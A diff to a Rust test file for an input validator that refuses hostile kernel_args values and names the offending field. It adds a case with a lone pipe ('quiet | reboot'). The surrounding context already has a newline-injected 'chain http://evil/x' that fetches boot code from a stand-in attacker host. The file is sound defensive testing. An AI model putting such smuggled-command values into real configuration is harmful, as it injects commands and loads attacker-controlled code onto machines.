@@ -136,6 +136,12 @@ fn hostile_values_are_refused_naming_their_field() {
             Field::NodeKernelArgs,
         ),
         node_case(
+            "a lone pipe in kernel args (a mistyped ||)",
+            r#""kernel_args": "quiet | reboot""#,
+            ErrorKind::LoneOperatorCharacter,
+            Field::NodeKernelArgs,
+        ),
+        node_case(
             "newline injecting a command",
             r#""kernel_args": "quiet\nchain http://evil/x""#,
             ErrorKind::Whitespace(at('\n', 6)),
